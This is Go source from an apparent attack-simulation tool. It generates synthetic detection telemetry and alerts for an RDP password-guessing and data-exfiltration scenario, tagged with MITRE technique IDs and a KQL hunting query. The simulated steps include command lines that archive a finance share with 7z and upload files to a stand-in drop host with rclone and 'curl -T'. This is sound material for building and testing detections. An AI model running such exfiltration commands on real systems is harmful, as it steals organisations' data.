package simulate

const (
	intruderIP = "203.0.113.77"
	dropSite   = "store.vault-drop.test"
	dropIP     = "203.0.113.78"
)

// exfiltration: passwords are guessed at a server whose remote desktop can be
// reached from the internet, until one is right; then the finance share is
// packed and copied to a storage service that nobody else visits.
func (w *world) exfiltration() *attack {
	return &attack{name: "brute force and exfiltration", device: w.jump, part: 810, length: 90 * minute,
		techniques: []string{"Password Guessing (T1110.001)", "Remote Desktop Protocol (T1021.001)", "Archive via Utility (T1560.001)",
			"Exfiltration to Cloud Storage (T1567.002)"},
		hunt: `DeviceLogonEvents | where RemoteIPType == "Public" | summarize Failed = countif(ActionType == "LogonFailed"), ` +
			`Succeeded = countif(ActionType == "LogonSuccess") by DeviceName, RemoteIP | where Failed > 50 and Succeeded > 0`,
		play: w.playExfiltration}
}

var guesses = [...]string{"administrator", "admin", "backup", "user", "test", "support", "scanner", "sqladmin"}

func (w *world) playExfiltration(s *script) {
	d := s.d
	for i := range 160 {
		s.then(6*second, func() {
			if i%4 == 0 {
				d.connection(s.find(d, "svchost.exe/TermService"), connection{action: "InboundConnectionAccepted", remoteIP: intruderIP,
					remotePort: s.dice.between(20000, 60000), localPort: 3389, protocol: "Tcp"})
			}
			e := logonEvent{action: "LogonFailed", kind: "Network", failure: "InvalidUserNameOrPassword", protocol: "Ntlm",
				remoteIP: intruderIP, remoteDevice: "desk-7kq2", name: guesses[s.dice.below(len(guesses))]}
			if e.name == guesses[0] {
				e.who = w.accounts.administrator
			}
			d.logon(s.find(d, "lsass.exe"), e)
		})
	}
	var l *login
	s.then(7*second, func() {
		d.endRemote() // a session more, and whoever was there is thrown out
		if l = d.beginRemote(w.accounts.administrator, intruderIP, "desk-7kq2", s.dice.between(20000, 60000)); l == nil {
			s.must(d, "lsass.exe", nil)
		}
	})
	s.then(minute, func() {
		w.raise(alert{title: "Successful logon after a series of failed ones", severity: "High", category: "InitialAccess",
			techniques: []string{"Password Guessing (T1110.001)", "Remote Desktop Protocol (T1021.001)"}, device: d,
			account: w.accounts.administrator, ip: intruderIP})
	})
	s.takeAway()
	s.then(2*minute, func() {
		if d.remote == l {
			d.endRemote()
		}
	})
}

// takeAway packs what is worth taking and copies it out.
func (s *script) takeAway() {
	d, w := s.d, s.w
	var console, packer, copier, last *process
	archive := fileEvent{action: "FileCreated", path: `C:\PerfLogs\stage\f.7z`, size: 734_003_200}
	s.then(30*second, func() { console = s.run(s.shell(d), "cmd.exe/elevated", "") })
	s.then(40*second, func() {
		packer = s.run(console, "7z.exe", `7z.exe a -mx1 -pinfected C:\PerfLogs\stage\f.7z \\`+w.fs.short+`\finance`)
	})
	s.then(700*millisecond, func() {
		port, _ := d.talk(s.find(d, "System"), w.fs, 445, w.fs.name)
		w.fs.networkLogon(w.accounts.administrator, d, port)
		d.fileEvent(packer, archive)
	})
	s.then(2*minute, func() {
		img := d.image(w.lib.byKey["rclone.exe"].prog, "")
		d.fileEvent(console, fileEvent{action: "FileCreated", path: img.path, img: img})
	})
	s.then(20*second, func() {
		copier = s.run(console, "rclone.exe", "")
		s.resolve(copier, dropSite, dropIP)
		w.raise(alert{title: "Possible data exfiltration", severity: "High", category: "Exfiltration",
			techniques: []string{"Exfiltration to Cloud Storage (T1567.002)"}, device: d, account: w.accounts.administrator,
			process: copier, file: &archive, ip: dropIP, url: "https://" + dropSite})
	})
	for range 60 {
		s.then(20*second, func() { s.connect(copier, dropSite, dropIP, 443) })
	}
	s.end(5*second, &copier)
	s.then(minute, func() {
		last = s.run(console, "curl.exe", `curl.exe -s -T C:\PerfLogs\stage\index.csv https://`+dropSite+`/u/`)
		s.connect(last, dropSite, dropIP, 443)
	})
	s.end(minute, &console)
}
